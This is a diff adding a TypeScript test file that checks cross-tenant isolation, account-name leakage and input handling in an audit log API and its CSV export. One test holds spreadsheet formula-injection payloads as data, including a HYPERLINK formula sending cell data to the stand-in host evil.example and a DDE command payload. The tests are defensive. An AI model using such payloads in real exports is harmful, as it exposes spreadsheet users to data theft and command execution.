@@ -1,0 +1,105 @@
+// An outside attacker's view of the audit log: a tenant administrator reading (list and CSV export)
+// another tenant's events through its filters, learning which accounts exist from failed sign-ins,
+// and hostile names reaching a spreadsheet as formulas. Every test asserts the secure behaviour.
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { startServer, transform, type Client, type TestServer } from './harness';
+
+let server: TestServer;
+let admin: Client;
+let adminOfA: Client;
+let tenantA = '';
+let tenantB = '';
+let bobId = '';
+
+interface Entry {
+  actorName: string | null;
+  targetId: string | null;
+  targetName: string | null;
+  tenantId: string | null;
+  action: string;
+  detail: Record<string, unknown>;
+}
+
+async function ok<T>(answer: Promise<{ status: number; body: { data: T } }>): Promise<T> {
+  const { status, body } = await answer;
+  assert.equal(status, 200, JSON.stringify(body));
+  return body.data;
+}
+
+before(async () => {
+  server = await startServer();
+  admin = await server.admin();
+  const root = (await ok(admin.get<{ id: string; parentId: string | null }[]>('/api/tenants/tree'))).find((row) => row.parentId === null)!;
+  tenantA = (await ok(admin.post<{ id: string }>('/api/tenants', { parentId: root.id, name: 'Audit_A', type: 'company' }))).id;
+  tenantB = (await ok(admin.post<{ id: string }>('/api/tenants', { parentId: root.id, name: 'Audit_B', type: 'company' }))).id;
+  await ok(admin.post('/api/user', { username: 'audit-boss-a', realName: 'Boss_A', password: transform('Tenant123!'), tenantId: tenantA, isAdmin: true }));
+  bobId = (
+    await ok(admin.post<{ id: string }>('/api/user', { username: 'audit-bob-b', realName: 'Bob_B', password: transform('Secret123'), tenantId: tenantB }))
+  ).id;
+  adminOfA = server.client();
+  assert.equal((await adminOfA.login('audit-boss-a', 'Tenant123!')).body.data?.loginSuccess, true);
+  // Failed sign-ins: an existing account of tenant B, and a name nobody has.
+  for (const username of ['audit-bob-b', 'audit-nobody-here']) assert.equal((await server.client().login(username, 'Wrong1234')).status, 401);
+  // Something happens in tenant B.
+  const { version } = await ok(admin.get<{ version: number }>(`/api/user/${bobId}`));
+  await ok(admin.put(`/api/user/${bobId}`, { realName: 'Bob_B_Renamed', version }));
+});
+after(() => server.stop());
+
+const list = (client: Client, query: string) => ok(client.get<{ list: Entry[]; pager: { total: number } }>(`/api/audit?pageSize=100&${query}`));
+
+async function exported(client: Client, query: string): Promise<string> {
+  const response = await client.raw('GET', `/api/audit/export?${query}`);
+  assert.equal(response.status, 200);
+  return response.text();
+}
+
+const mentions = (text: string, needles: string[]) => needles.filter((needle) => text.includes(needle));
+
+test("a tenant administrator's list and export, filtered to another tenant or its person, show none of its events", async () => {
+  for (const query of [`tenantId=${tenantB}`, `target=${bobId}`, 'target=audit-bob-b', 'actor=admin', 'from=0&to=99999999999999']) {
+    const page = await list(adminOfA, query);
+    for (const entry of page.list) assert.equal(entry.tenantId, tenantA, `${query}: ${JSON.stringify(entry)}`);
+    const csv = await exported(adminOfA, query);
+    assert.deepEqual(mentions(csv, [bobId, 'audit-bob-b', 'Bob_B', tenantB, 'Audit_B']), [], `${query}: the export names tenant B`);
+  }
+  // The platform administrator does see them (the events exist).
+  assert.ok((await list(admin, `target=${bobId}`)).pager.total >= 1);
+});
+
+test('failed sign-ins tell a tenant administrator nothing about which accounts exist elsewhere', async () => {
+  const text = JSON.stringify((await list(adminOfA, 'action=login.failure')).list) + (await exported(adminOfA, 'action=login.failure'));
+  assert.deepEqual(mentions(text, ['audit-bob-b', 'audit-nobody-here', bobId]), []);
+});
+
+test("a tenant administrator naming another tenant's event as a parent (parentId) reads none of it", async () => {
+  const theirs = (await list(admin, `tenantId=${tenantB}`)).list as (Entry & { id: number })[];
+  assert.ok(theirs.length >= 1, 'tenant B has events');
+  for (const event of theirs) {
+    assert.equal((await list(adminOfA, `parentId=${event.id}`)).pager.total, 0);
+    assert.deepEqual(mentions(await exported(adminOfA, `parentId=${event.id}`), [tenantB, 'audit-bob-b']), []);
+  }
+});
+
+test('hostile sign-in names reach the CSV export as text, never as a formula', async () => {
+  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+cmd', '-2+3', '\t=1+1', '\r=1+1'];
+  for (const username of hostile) await server.client().login(username, 'Wrong1234');
+  const csv = await exported(admin, 'action=login.failure');
+  const cells = csv
+    .split('\r\n')
+    .flatMap((line) => line.split(','))
+    .map((cell) => cell.replace(/^"/, ''));
+  const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d/.test(cell) && cell !== '-');
+  assert.deepEqual(formulas, [], 'cells a spreadsheet would run');
+  assert.ok(csv.includes(`'=HYPERLINK`), 'the hostile name is in the export, neutralised');
+});
+
+test('nonsense time ranges answer 200 or 400, never a 500', async () => {
+  for (const query of ['from=abc', 'to=-1e309', 'from=1e400']) {
+    const answer = await adminOfA.get(`/api/audit?${query}`);
+    assert.ok([200, 400].includes(answer.status), `${query}: ${answer.status}`);
+    const response = await adminOfA.raw('GET', `/api/audit/export?${query}`);
+    assert.ok([200, 400].includes(response.status), `export ${query}: ${response.status}`);
+  }
+});
